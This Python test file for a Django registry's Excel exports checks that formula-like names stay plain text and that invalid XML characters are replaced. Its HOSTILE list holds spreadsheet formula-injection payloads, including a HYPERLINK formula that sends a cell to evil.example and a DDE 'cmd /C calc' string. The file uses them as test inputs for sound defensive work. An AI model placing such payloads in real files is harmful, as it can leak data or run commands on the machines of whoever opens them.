"""Every workbook the project writes keeps stored text as text: nothing that looks like
a formula becomes one, now or when a user edits the cell, and the text is not changed.
And every export writes what is stored, even text holding characters XML cannot hold,
which openpyxl refuses (IllegalCharacterError) or which would damage the file."""

import datetime
import os
import re
import zipfile
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.db import connection
from django.urls import reverse
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from core.excel import DATE_FORMAT, MONEY_FORMAT, Column, build_workbook, sheet_title
from core.imports import TEXT, template_workbook
from core.imports import Column as ImportColumn
from core.models import Job, JobStatus, RoleKind
from core.tenancy import all_regions, jurisdiction
from mediation import ranking
from mediation.services import close_case
from tests.factories import (
    AppointmentFactory,
    CommitteeFactory,
    MediatorFactory,
    RoleFactory,
    UserFactory,
    make_case,
    publish_roster,
)

# What a spreadsheet would run (or run once the cell is edited), and text that would
# be written as an error value.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "#N/A",
)
# Every C0 control; XML holds only tab, LF and CR of them.
CONTROLS = "".join(chr(code) for code in range(32))
WRITTEN_CONTROLS = "".join(c if c in "\t\n\r" else "\ufffd" for c in CONTROLS)
FORMULA_RE = re.compile(rb"<(?:\w+:)?f[\s>/]")
ESCAPE_RE = re.compile(r"_x([0-9A-F]{4})_")
SKIPPED_DIRS = {".git", ".venv", "node_modules", "static", "tests", "media", "__pycache__"}


def _stored(text):
    """*text* as the database can store it: PostgreSQL's text refuses NUL."""
    return text.replace("\x00", "") if connection.vendor == "postgresql" else text


def _as_read(text):
    """What an XML reader gives back: a CR is read as a line end (XML 1.0, 2.11)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _read(value):
    """A cell's text as Excel reads it: XlsxWriter writes a CR as Excel's escape
    _x000D_ (so Excel gives the CR back), which openpyxl leaves as it is."""
    if not isinstance(value, str):
        return value
    return _as_read(ESCAPE_RE.sub(lambda m: chr(int(m[1], 16)), value))


def _workbook(content):
    return load_workbook(BytesIO(content))


def _formulas(content):
    """The sheet parts of the workbook holding a formula element."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and FORMULA_RE.search(archive.read(name))
        ]


def assert_text_cells(content, values):
    """Each of *values* is in the workbook as text, identical, with the quote prefix
    that keeps it text when edited, and no sheet holds a formula."""
    assert _formulas(content) == []
    cells = {
        _read(cell.value): cell
        for sheet in _workbook(content).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for value in values:
        cell = cells.get(_as_read(value))
        assert cell is not None, f"{value!r} is not in the workbook"
        assert cell.data_type == "s", (value, cell.data_type)
        assert cell.quotePrefix, value


def _values(content, column):
    sheet = _workbook(content).worksheets[0]
    return [_read(row[column]) for row in sheet.iter_rows(min_row=2, values_only=True)]


# The writer helper


def test_text_that_looks_like_a_formula_is_written_as_text_exactly():
    content = build_workbook("名册", [Column("名称", lambda row: row)], [*HOSTILE, "\r=1+1"])
    assert_text_cells(content, [*HOSTILE, "\r=1+1"])


def test_plain_text_is_written_bare_without_a_style():
    content = build_workbook("名册", [Column("名称", lambda row: row)], ["张三", "3-2", ""])
    sheet = _workbook(content).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=3)]
    assert [c.value for c in cells] == ["张三", "3-2"]
    assert not any(c.quotePrefix or c.has_style for c in cells)


def test_dates_money_and_numbers_keep_their_types_and_formats():
    columns = [
        Column("调解员", lambda row: row[0]),
        Column("受理日期", lambda row: row[1]),
        Column("补贴金额", lambda row: row[2], number_format=MONEY_FORMAT),
        Column("案件数", lambda row: row[3]),
    ]
    rows = [("=张三", datetime.date(2025, 3, 10), Decimal("1234.50"), 7)]
    sheet = _workbook(build_workbook("补贴", columns, rows)).worksheets[0]
    header, body = sheet[1], sheet[2]
    assert [c.value for c in header] == ["调解员", "受理日期", "补贴金额", "案件数"]
    assert all(c.font.bold for c in header)
    assert body[0].value == "=张三" and body[0].data_type == "s"
    assert body[1].value == datetime.datetime(2025, 3, 10)
    assert body[1].number_format == DATE_FORMAT
    assert body[2].value == 1234.5 and body[2].data_type == "n"
    assert body[2].number_format == MONEY_FORMAT
    assert body[3].value == 7 and body[3].data_type == "n"


def test_characters_xml_cannot_hold_are_replaced_and_the_file_opens():
    stored = f"张{CONTROLS}三\ud800李\udfff四\ufffe\uffff🙂"
    content = build_workbook("名册", [Column("名称", lambda row: row)], [stored, "\x01=1+1"])
    written = f"张{WRITTEN_CONTROLS}三\ufffd李\ufffd四\ufffd\ufffd🙂"
    assert _values(content, 0) == [_as_read(written), "\ufffd=1+1"]


def test_links_and_numbers_in_text_stay_text():
    """The streaming writer (XlsxWriter) turns text into links, numbers and formulas
    when asked to; the helper never asks."""
    texts = ["http://evil.example/?q=1", "mailto:a@example.com", "0012", "1e5", "TRUE", "_x0041_"]
    content = build_workbook("名册", [Column("名称", lambda row: row)], texts)
    assert _values(content, 0) == ["http://evil.example/?q=1", *texts[1:-1], "_x0041_"]
    sheet = _workbook(content).worksheets[0]
    assert {cell.data_type for (cell,) in sheet.iter_rows(min_row=2)} == {"s"}
    with zipfile.ZipFile(BytesIO(content)) as archive:
        assert not [n for n in archive.namelist() if "rels" in n and "sheet" in n]
        assert b"<hyperlink" not in archive.read("xl/worksheets/sheet1.xml")


def test_other_values_keep_their_types():
    rows = [(True, datetime.time(9, 30), gettext_lazy("Yes"), 2**40, Decimal("0.10"))]
    columns = [Column(str(n), lambda row, n=n: row[n]) for n in range(5)]
    (row,) = _workbook(build_workbook("类型", columns, rows)).worksheets[0].iter_rows(min_row=2)
    assert row[0].value is True and row[1].value == datetime.time(9, 30)
    assert row[2].value == "是" and row[3].value == 2**40 and row[4].value == 0.1


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("2025年第1季度/越城区[草稿]", "2025年第1季度_越城区_草稿_"),
        ("名册\x00\x1f\ud800", "名册\ufffd\ufffd\ufffd"),
        ("'引号'", "引号"),
        ("长" * 40, "长" * 31),
        ("", "Sheet1"),
    ],
)
def test_a_sheet_title_is_made_one_excel_accepts(title, expected):
    assert sheet_title(title) == expected
    content = build_workbook(title, [Column("名称", lambda row: row)], [])
    assert _workbook(content).sheetnames == [expected]


def test_every_cell_a_template_writes_stays_text():
    columns = [
        ImportColumn("name", "=名称", TEXT, example="=HYPERLINK(1)", help="+说明"),
        ImportColumn("kind", "类型", "choice", choices=(("a", 'a",HYPERLINK("x'), ("b", "乙"))),
    ]
    content = template_workbook("模板\x01", columns, "@填写说明", notes=["-注意"])
    assert_text_cells(content, ["=名称", "=HYPERLINK(1)", "+说明", "-注意"])
    workbook = _workbook(content)
    assert workbook.sheetnames == ["模板\ufffd", "@填写说明"]
    # A label with a quote would end the pick list's string: no pick list then.
    assert workbook.worksheets[0].data_validations.dataValidation == []


def test_only_the_writer_helpers_create_workbooks():
    """A new export must go through core.excel (write_workbook; streaming_workbook
    with its cell writer for a workbook of several sheets; append_row in an openpyxl
    one) to get its text protection."""
    root = Path(__file__).resolve().parents[2]
    found = []
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in SKIPPED_DIRS]
        found += [
            str((Path(folder) / name).relative_to(root))
            for name in files
            # Workbook( of any library, not a class of ours whose name ends so.
            if name.endswith(".py")
            and re.search(r"(?<![\w])Workbook\(", (Path(folder) / name).read_text())
        ]
    assert sorted(found) == [
        "core/excel.py",
        "core/imports.py",  # template_workbook, through append_row
        "registry/management/commands/bench_roster.py",  # the bare baseline
        "subsidies/management/commands/bench_finance_workbook.py",  # the bare baseline
    ]


# Each export, with what is stored


@pytest.fixture
def hostile_roster(world):
    """越城区 (world a): a committee and a full-time mediator for each hostile name, and
    one committee and mediator whose stored names hold every C0 control."""
    a = world["a"]
    with all_regions():
        committees = [
            CommitteeFactory(region=a["village"], office=a["office"], name=name, address=name)
            for name in HOSTILE
        ]
        for committee, name in zip(committees, HOSTILE, strict=True):
            AppointmentFactory(
                committee=committee, mediator=MediatorFactory(region=a["village"], name=name)
            )
        broken = CommitteeFactory(region=a["village"], name=_stored(f"甲{CONTROLS}村调委会"))
        AppointmentFactory(
            committee=broken,
            mediator=MediatorFactory(region=a["village"], name=_stored(f"张{CONTROLS}三")),
        )
    return {**a, "committees": committees}


def _written(text):
    """What an export of the stored *text* (C0 controls and all) reads back as."""
    return _as_read(
        "".join("\ufffd" if c < " " and c not in "\t\n\r" else c for c in _stored(text))
    )


def _streamed(response):
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content)


@pytest.mark.parametrize(("records", "name_column"), [("committee", 1), ("mediator", 1)])
def test_the_roster_exports_keep_stored_names_as_text(login, hostile_roster, records, name_column):
    client = login(hostile_roster["county_user"])
    content = _streamed(client.post(reverse(f"registry:{records}_export")))
    assert_text_cells(content, HOSTILE)
    stored = f"甲{CONTROLS}村调委会" if records == "committee" else f"张{CONTROLS}三"
    assert _written(stored) in _values(content, name_column)


def test_the_public_roster_workbook_keeps_stored_names_as_text(client, hostile_roster):
    publish_roster(hostile_roster["county_bureau"])
    response = client.get(reverse("public:roster_xlsx", args=[hostile_roster["county"].code]))
    assert response.status_code == 200
    assert_text_cells(response.content, HOSTILE)
    assert _written(f"张{CONTROLS}三") in _values(response.content, 0)
    assert _written(f"甲{CONTROLS}村调委会") in _values(response.content, 3)


def test_the_staffing_report_keeps_committee_names_as_text(login, hostile_roster):
    response = login(hostile_roster["county_user"]).get(
        reverse("registry:compliance"), {"export": "xlsx"}
    )
    assert response.status_code == 200
    assert_text_cells(response.content, HOSTILE)


def test_the_statistics_keep_committee_names_as_text(login, hostile_roster):
    with all_regions():
        for committee in hostile_roster["committees"]:
            make_case(committee, committee.appointments.get().mediator)
    response = login(hostile_roster["county_user"]).get(
        reverse("mediation:statistics"),
        {
            "from": "2025-01-01",
            "to": "2025-12-31",
            "area": hostile_roster["village"].code,
            "export": "xlsx",
        },
    )
    assert response.status_code == 200
    assert_text_cells(response.content, HOSTILE)


def test_the_ranking_keeps_mediator_and_committee_names_as_text(login, hostile_roster):
    with jurisdiction(hostile_roster["county"].prefix):
        committee = hostile_roster["committees"][0]
        case = make_case(committee, committee.appointments.get().mediator)
        close_case(
            case, closed_on=datetime.date(2025, 3, 20), result="success", agreement_form="oral"
        )
        snapshot = ranking.rank_quarter(hostile_roster["county_bureau"], 2025, 1)
    client = login(hostile_roster["county_user"])
    response = client.get(snapshot.get_absolute_url(), {"export": "xlsx"})
    assert response.status_code == 200
    assert_text_cells(response.content, HOSTILE)


def test_the_roles_export_keeps_user_names_as_text(
    login, world, django_capture_on_commit_callbacks
):
    a = world["a"]
    with all_regions():
        for n, name in enumerate(HOSTILE):
            user = UserFactory(username=name, first_name=f"用户{n}")
            RoleFactory(user=user, kind=RoleKind.BUREAU_STAFF, bureau=a["county_bureau"])
    with django_capture_on_commit_callbacks(execute=True):
        response = login(a["admin_user"]).post(reverse("core:role_export"))
    assert response.status_code == 302
    with all_regions():
        job = Job.objects.get(kind="export_roles")
    assert job.status == JobStatus.DONE, job.message
    assert_text_cells(Path(job.result_file.path).read_bytes(), HOSTILE)
